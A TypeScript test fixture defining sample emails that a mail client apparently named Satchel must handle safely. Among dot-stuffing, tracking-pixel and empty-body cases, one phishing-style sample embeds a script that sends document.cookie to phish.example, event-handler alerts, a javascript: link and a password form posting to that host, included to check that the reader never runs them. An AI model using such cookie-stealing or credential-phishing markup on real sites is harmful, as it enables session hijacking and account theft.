import { html, mailbox, multipart, text } from './mime-builder.ts';
import { date, envelope, type SampleMessage } from './sample-envelope.ts';

/**
 * Shapes a mail client must get right: a line starting with a dot (dot-stuffing on the wire),
 * a remote image that must not load, a `<script>` that must not run, and an empty body.
 */
export const EDGE_CASES: readonly SampleMessage[] = [
  {
    name: '14-dotfiles-leading-dot',
    envelope: envelope(mailbox('Kai Lindqvist', 'kai@example.se'), 'My dotfiles (lines that start with a dot)', date('2026-10-27T22:05', '+0100'), 'dotfiles-14'),
    body: text(
      `Here are the files I keep in my home folder:

.bashrc
.gitconfig
..and a folder called .config with the rest.
.
The line above is a single dot. POP3 servers must "dot-stuff" it,
and Satchel must remove the extra dot again, or this message would end
early or arrive with doubled dots.
`,
      { charset: 'us-ascii', encoding: '7bit' },
    ),
  },
  {
    name: '15-newsletter-remote-image',
    envelope: envelope(
      mailbox('Offline Monthly', 'news@offline-monthly.example'),
      'Offline Monthly: five tips for reading on the move',
      date('2026-10-29T06:00', '+0000'),
      'newsletter-15',
      ['List-Id: Offline Monthly <monthly.offline-monthly.example>', 'List-Unsubscribe: <https://offline-monthly.example/unsubscribe?u=demo>'],
    ),
    body: multipart(
      'alternative',
      text(`Offline Monthly - five tips for reading on the move

1. Sync before you leave the station.
2. Keep large attachments for the hotel.
3. Ask your browser to keep your storage persistent.
4. Export a backup now and then.
5. Enjoy the view.
`),
      html(`<!doctype html>
<html><body style="font-family: Georgia, serif; max-width: 600px">
<img src="https://offline-monthly.example/banner.png" alt="Offline Monthly" width="600" height="120">
<h1>Five tips for reading on the move</h1>
<ol>
<li>Sync before you leave the station.</li>
<li>Keep large attachments for the hotel.</li>
<li>Ask your browser to keep your storage persistent.</li>
<li>Export a backup now and then.</li>
<li>Enjoy the view.</li>
</ol>
<p>The banner above is a <em>remote</em> image. Satchel blocks it until you choose to load it,
because loading it would tell the sender when and where you read this.</p>
<img src="https://offline-monthly.example/open.gif?u=demo" width="1" height="1" alt="">
</body></html>
`),
    ),
  },
  {
    name: '16-script-must-not-run',
    envelope: envelope(mailbox('Account Security', 'security@phish.example'), 'Action required: verify your mailbox', date('2026-10-30T03:17', '+0000'), 'script-16'),
    body: multipart(
      'alternative',
      text(`This message is a safety test. Its HTML part contains a <script> element
and onload/onerror handlers. Satchel must never run any of them.
`),
      html(`<!doctype html>
<html><head><script>document.title = 'PWNED'; fetch('https://phish.example/steal?c=' + document.cookie);</script></head>
<body onload="alert('onload ran: this must never happen')">
<h1>Verify your mailbox</h1>
<p>This is a safety test from the Satchel demo. If you ever see an alert box, a changed title,
or a request to phish.example, the reader is broken.</p>
<img src="cid:missing@demo.satchel.example" onerror="alert('onerror ran: this must never happen')" alt="">
<a href="javascript:alert('javascript: link ran')">Click to verify</a>
<form action="https://phish.example/login" method="post"><input name="password" type="password"></form>
</body></html>
`),
    ),
  },
  {
    name: '25-no-body',
    envelope: envelope(mailbox('Sam Rivera', 'sam@example.com'), 'Landed! (no body, subject says it all)', date('2026-11-10T06:44', '+0000'), 'landed-25'),
    body: { kind: 'leaf', headers: ['Content-Type: text/plain; charset=us-ascii'], body: '' },
  },
];
